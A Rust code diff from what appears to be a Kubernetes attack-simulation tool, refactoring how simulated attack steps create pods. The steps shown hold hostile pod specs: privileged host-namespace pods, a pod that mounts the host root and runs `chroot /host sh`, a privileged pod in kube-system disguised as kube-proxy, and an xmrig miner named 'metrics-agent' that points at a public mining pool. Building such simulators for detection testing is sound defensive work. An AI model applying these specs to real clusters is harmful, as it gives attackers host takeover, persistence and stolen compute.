@@ -386,24 +386,23 @@ fn exec_shell(s: &mut Step<'_>) {
     s.touch(format!("Pod/{ns}/{pod}"));
 }
 
-fn attack_pod(name: &str, ns: &str, spec: serde_json::Value) -> serde_json::Value {
-    json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": ns}, "spec": spec})
+/// Creates a pod named `prefix-<random>` in `ns` with `spec`, as the actor.
+fn launch_pod(s: &mut Step<'_>, ns: &str, prefix: &str, spec: serde_json::Value) {
+    let name = format!("{prefix}-{:x}", s.rng.next_u64() & 0xfffff);
+    let body = json!({"apiVersion": "v1", "kind": "Pod",
+        "metadata": {"name": name, "namespace": ns}, "spec": spec});
+    let r = s.req("create", "pods").ns(ns).name(&name).body(body);
+    s.send(r);
+    s.actor_entity();
+    s.touch(format!("Pod/{ns}/{name}"));
 }
 
 fn privileged_pod(s: &mut Step<'_>) {
     let ns = s.foothold.namespace.clone();
-    let name = format!("debug-{:x}", s.rng.next_u64() & 0xffff);
-    let body = attack_pod(
-        &name,
-        &ns,
-        json!({"hostPID": true, "hostNetwork": true,
+    let spec = json!({"hostPID": true, "hostNetwork": true,
         "containers": [{"name": "shell", "image": "docker.io/library/alpine:3.20", "command": ["sleep", "infinity"],
-            "securityContext": {"privileged": true}}]}),
-    );
-    let r = s.req("create", "pods").ns(&ns).name(&name).body(body);
-    s.send(r);
-    s.actor_entity();
-    s.touch(format!("Pod/{ns}/{name}"));
+            "securityContext": {"privileged": true}}]});
+    launch_pod(s, &ns, "debug", spec);
 }
 
 fn ephemeral_container(s: &mut Step<'_>) {
@@ -445,18 +444,10 @@ fn cluster_admin_binding(s: &mut Step<'_>) {
 
 fn host_root_mount(s: &mut Step<'_>) {
     let ns = s.foothold.namespace.clone();
-    let name = format!("node-shell-{:x}", s.rng.next_u64() & 0xffff);
-    let body = attack_pod(
-        &name,
-        &ns,
-        json!({"containers": [{"name": "shell", "image": "docker.io/library/busybox:1.36",
+    let spec = json!({"containers": [{"name": "shell", "image": "docker.io/library/busybox:1.36",
         "command": ["chroot", "/host", "sh"], "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
-        "volumes": [{"name": "host", "hostPath": {"path": "/"}}]}),
-    );
-    let r = s.req("create", "pods").ns(&ns).name(&name).body(body);
-    s.send(r);
-    s.actor_entity();
-    s.touch(format!("Pod/{ns}/{name}"));
+        "volumes": [{"name": "host", "hostPath": {"path": "/"}}]});
+    launch_pod(s, &ns, "node-shell", spec);
 }
 
 fn cronjob_backdoor(s: &mut Step<'_>) {
@@ -558,22 +549,10 @@ fn delete_events(s: &mut Step<'_>) {
 }
 
 fn system_namespace_pod(s: &mut Step<'_>) {
-    let name = format!("kube-proxy-{:x}", s.rng.next_u64() & 0xfffff);
-    let body = attack_pod(
-        &name,
-        "kube-system",
-        json!({"hostNetwork": true,
+    let spec = json!({"hostNetwork": true,
         "containers": [{"name": "kube-proxy", "image": "docker.io/kubeproxy-mirror/kube-proxy:v1.31.2",
-            "securityContext": {"privileged": true}}]}),
-    );
-    let r = s
-        .req("create", "pods")
-        .ns("kube-system")
-        .name(&name)
-        .body(body);
-    s.send(r);
-    s.actor_entity();
-    s.touch(format!("Pod/kube-system/{name}"));
+            "securityContext": {"privileged": true}}]});
+    launch_pod(s, "kube-system", "kube-proxy", spec);
 }
 
 fn configmaps(s: &mut Step<'_>) {
@@ -628,17 +607,9 @@ fn copy_out(s: &mut Step<'_>) {
 
 fn miner(s: &mut Step<'_>) {
     let ns = s.foothold.namespace.clone();
-    let name = format!("metrics-agent-{:x}", s.rng.next_u64() & 0xffff);
-    let body = attack_pod(
-        &name,
-        &ns,
-        json!({"containers": [{"name": "agent", "image": "docker.io/minerhub/xmrig:6.21.0",
-        "args": ["-o", "pool.supportxmr.com:443", "--tls"], "resources": {"requests": {"cpu": "4"}}}]}),
-    );
-    let r = s.req("create", "pods").ns(&ns).name(&name).body(body);
-    s.send(r);
-    s.actor_entity();
-    s.touch(format!("Pod/{ns}/{name}"));
+    let spec = json!({"containers": [{"name": "agent", "image": "docker.io/minerhub/xmrig:6.21.0",
+        "args": ["-o", "pool.supportxmr.com:443", "--tls"], "resources": {"requests": {"cpu": "4"}}}]});
+    launch_pod(s, &ns, "metrics-agent", spec);
 }
 
 fn mass_delete(s: &mut Step<'_>) {
